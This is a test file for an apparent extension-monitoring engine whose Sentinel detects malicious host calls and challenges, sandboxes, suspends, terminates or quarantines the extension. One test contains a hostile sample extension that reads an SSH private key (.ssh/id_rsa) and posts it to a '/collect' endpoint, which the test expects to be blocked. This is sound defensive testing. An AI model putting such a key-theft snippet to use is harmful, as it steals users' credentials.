"""Each action end to end, through real extensions, files, a loopback server and processes.

With `hostile_model` (logging and reads look benign, writes, requests and
processes malicious) and prior 0.5, the posterior stays near 0.14 until the
extension writes, sends or spawns, then jumps above 0.8 with the e-process
past its gate; `only(action, at=0.5)` makes that call get `action`.
"""

from __future__ import annotations

import threading

import pytest
from sentinel_fixtures import SSH_KEY, only
from sentinel_synthetic import traces

from frankenengine import CapabilityDenied, Engine, ExtensionQuarantined, ExtensionTerminated
from frankenengine.sentinel import HostCallEvent, Sentinel, fit
from frankenengine.sentinel.policy import CONTAINING

WRITE_THEN_POST = """from host import fs, net, log

def main(base):
    log.info("starting")
    text = fs.read_text("a.txt")
    fs.write_text("../out/copy.txt", text)
    return net.post(base + "/up", text)["status"]
"""


def _grants(tmp_path, server=None, **more):
    grants = {"fs.read": [str(tmp_path / "data")], "fs.write": [str(tmp_path / "out")], "log": []}
    if server is not None:
        grants["net.http"] = [f"127.0.0.1:{server.port}"]
    grants.update(more)
    return grants


def _strict(action, model, **settings):
    return dict(model=model, prior=0.5, loss=only(action, at=0.5), **settings)


def test_challenge_asks_the_host_and_a_yes_lets_the_run_go_on(
    tmp_path, home, server, load, hostile_model
):
    asked = []

    def challenge(event, posterior):
        asked.append((event.function, posterior))
        return True

    ext, sentinel = load(
        WRITE_THEN_POST,
        _grants(tmp_path, server),
        **_strict("challenge", hostile_model, challenge=challenge),
    )
    assert ext.call("main", server.base) == 200
    assert (tmp_path / "out" / "copy.txt").read_text() == "alpha\nbeta\n"
    assert [r[1] for r in server.requests] == ["/up"]
    assert asked and asked[0][0] == "fs.write_text" and 0.5 < asked[0][1] < 1
    assert isinstance(asked[0][1], float)
    assert sentinel.strongest_action == "challenge"


def test_challenge_answered_no_stops_the_run_before_the_call(
    tmp_path, home, server, load, hostile_model
):
    ext, sentinel = load(
        WRITE_THEN_POST,
        _grants(tmp_path, server),
        **_strict("challenge", hostile_model, challenge=lambda event, p: False),
    )
    with pytest.raises(ExtensionTerminated, match="the host refused"):
        ext.call("main", server.base)
    assert not (tmp_path / "out" / "copy.txt").exists()
    assert server.requests == []
    assert sentinel.contained == "terminate" and sentinel.strongest_action == "terminate"


def test_without_a_callback_there_is_no_challenge(tmp_path, home, server, load, hostile_model):
    ext, sentinel = load(
        WRITE_THEN_POST, _grants(tmp_path, server), **_strict("challenge", hostile_model)
    )
    assert ext.call("main", server.base) == 200  # challenge unavailable: the next best, allow
    assert sentinel.strongest_action == "allow"


def test_sandbox_narrows_the_grants_for_the_rest_of_its_life(
    tmp_path, home, server, load, hostile_model
):
    source = """from host import fs, net, proc, log

def main(base):
    log.info("x")
    got = [fs.read_text("a.txt")]
    for attempt in [lambda: fs.write_text("../out/w.txt", "w"), lambda: net.get(base + "/g"),
                    lambda: proc.run(["/bin/echo", "hi"])]:
        try:
            attempt()
            got.append("done")
        except PermissionError as e:
            got.append(str(e))
    got.append(fs.read_text("a.txt"))
    return got
"""
    grants = _grants(tmp_path, server, **{"proc.run": ["/bin/echo"]})
    ext, sentinel = load(source, grants, **_strict("sandbox", hostile_model))
    got = ext.call("main", server.base)
    assert got[0] == got[-1] == "alpha\nbeta\n"  # reading is not dropped
    assert all("sandboxed" in message for message in got[1:4]), got
    assert not (tmp_path / "out" / "w.txt").exists() and server.requests == []
    assert sentinel.sandboxed == ("fs.write", "net.http", "proc.run")
    assert sentinel.strongest_action == "sandbox"
    # a later call of the extension is still narrowed
    assert "sandboxed" in ext.call("main", server.base)[1]
    actions = [(e["function"], e["allowed"]) for e in ext.host_events()]
    assert ("fs.write_text", False) in actions and ("fs.read_text", True) in actions


WRITE = """from host import fs, log

def main():
    log.info("starting")
    return fs.write_text("../out/copy.txt", fs.read_text("a.txt"))
"""


def _suspending(load, tmp_path, model, **settings):
    return load(WRITE, _grants(tmp_path), **_strict("suspend", model, **settings))


def test_suspend_waits_until_the_host_resumes(tmp_path, home, load, hostile_model):
    resume = threading.Event()
    ext, sentinel = _suspending(load, tmp_path, hostile_model, resume=resume)
    seen = {}

    def host():
        seen["waiting"] = sentinel.waiting.wait(10)
        seen["file_before"] = (tmp_path / "out" / "copy.txt").exists()
        resume.set()

    thread = threading.Thread(target=host)
    thread.start()
    assert ext.call("main") == 11
    thread.join()
    assert seen == {"waiting": True, "file_before": False}
    assert (tmp_path / "out" / "copy.txt").read_text() == "alpha\nbeta\n"
    assert sentinel.strongest_action == "suspend" and not sentinel.contained


def test_a_suspension_the_host_ends_stops_the_run(tmp_path, home, load, hostile_model):
    resume = threading.Event()
    ext, sentinel = _suspending(load, tmp_path, hostile_model, resume=resume)
    thread = threading.Thread(
        target=lambda: sentinel.waiting.wait(10) and sentinel.end_suspension()
    )
    thread.start()
    with pytest.raises(ExtensionTerminated, match="not resumed"):
        ext.call("main")
    thread.join()
    assert not (tmp_path / "out" / "copy.txt").exists()
    assert sentinel.contained == "terminate"


def test_a_suspension_times_out_into_termination(tmp_path, home, load, hostile_model):
    ext, sentinel = _suspending(
        load, tmp_path, hostile_model, resume=threading.Event(), suspend_timeout=0.1
    )
    with pytest.raises(ExtensionTerminated):
        ext.call("main")
    assert not (tmp_path / "out" / "copy.txt").exists()


def test_suspend_with_a_callback_and_without_any_handler(tmp_path, home, load, hostile_model):
    asked = []
    ext, _ = _suspending(
        load, tmp_path, hostile_model, resume=lambda e, p: asked.append(e.function) or True
    )
    assert ext.call("main") == 11
    assert asked == ["fs.write_text"] and (tmp_path / "out" / "copy.txt").exists()
    (tmp_path / "out" / "copy.txt").unlink()
    ext, sentinel = _suspending(load, tmp_path, hostile_model)  # nobody can resume it
    with pytest.raises(ExtensionTerminated):
        ext.call("main")
    assert not (tmp_path / "out" / "copy.txt").exists() and sentinel.contained


def test_terminate_stops_the_run_before_the_harmful_call(
    tmp_path, home, server, load, hostile_model
):
    source = WRITE_THEN_POST.replace('fs.write_text("../out/copy.txt", text)\n    ', "")
    ext, sentinel = load(source, _grants(tmp_path, server), **_strict("terminate", hostile_model))
    with pytest.raises(ExtensionTerminated):
        ext.call("main", server.base)
    assert server.requests == []  # the post never reached the server
    events = ext.host_events()
    assert events[-1]["function"] == "net.post" and events[-1]["outcome"] == "terminated"
    # the extension stays contained: every later host call is refused
    with pytest.raises(ExtensionTerminated):
        ext.call("main", server.base)
    assert server.requests == []


def test_terminate_before_a_process_runs(tmp_path, home, load, hostile_model):
    marker = tmp_path / "out" / "ran"
    source = f"""from host import proc, log

def main():
    log.info("go")
    return proc.run(["/usr/bin/touch", {str(marker)!r}])["code"]
"""
    ext, _ = load(
        source, {"proc.run": ["/usr/bin/touch"], "log": []}, **_strict("terminate", hostile_model)
    )
    with pytest.raises(ExtensionTerminated):
        ext.call("main")
    assert not marker.exists()


def test_quarantine_persists_across_engines_until_released(
    tmp_path, home, server, load, hostile_model
):
    state = tmp_path / "state"
    ext, sentinel = load(
        WRITE_THEN_POST, _grants(tmp_path, server), **_strict("quarantine", hostile_model)
    )
    with pytest.raises(ExtensionTerminated):
        ext.call("main", server.base)
    assert not (tmp_path / "out" / "copy.txt").exists() and server.requests == []
    assert sentinel.contained == "quarantine"
    engine = Engine(lane="interp", state_dir=state)
    assert list(engine.quarantined()) == [ext.digest]
    assert engine.quarantined()[ext.digest]["name"] == "ext"
    with pytest.raises(ExtensionQuarantined, match=ext.digest):
        engine.load(WRITE_THEN_POST, name="ext", filename="ext.py")
    other = engine.load("def main():\n    return 1\n")  # other extensions still load
    assert other.call("main") == 1
    assert engine.release_quarantine(ext.digest) is True
    assert engine.release_quarantine(ext.digest) is False
    again = Engine(lane="interp", state_dir=state).load(WRITE_THEN_POST, name="ext")
    assert again.digest == ext.digest


def test_a_real_theft_is_contained_before_the_secret_leaves(tmp_path, home, server, load):
    """No loss-matrix tricks: a model fitted on the synthetic traces, default settings."""
    model = fit(traces(seed=0, per_kind=12))
    source = """from host import fs, net

def main(base):
    key = fs.read_text("home/.ssh/id_rsa")
    return net.post(base + "/collect", key)["status"]
"""
    grants = {"fs.read": [str(tmp_path)], "net.http": [f"127.0.0.1:{server.port}"]}
    ext, sentinel = load(source, grants, model=model)
    with pytest.raises((CapabilityDenied, ExtensionTerminated)):
        ext.call("main", server.base)
    assert server.requests == []
    assert sentinel.strongest_action in CONTAINING
    assert SSH_KEY.splitlines()[1] not in str(ext.host_events())  # content stays out of events


def test_a_sentinel_watches_one_extension(tmp_path, load, hostile_model):
    sentinel = Sentinel(hostile_model)
    engine = Engine(lane="interp", state_dir=tmp_path / "state")
    engine.load("def f():\n    return 1\n", hook=sentinel)
    with pytest.raises(ValueError, match="one extension"):
        engine.load("def f():\n    return 2\n", hook=sentinel)


def test_the_challenge_callback_gets_the_event(tmp_path, home, server, load, hostile_model):
    events = []
    ext, _ = load(
        WRITE_THEN_POST,
        _grants(tmp_path, server),
        **_strict("challenge", hostile_model, challenge=lambda e, p: events.append(e) or True),
    )
    ext.call("main", server.base)
    assert all(isinstance(e, HostCallEvent) for e in events)
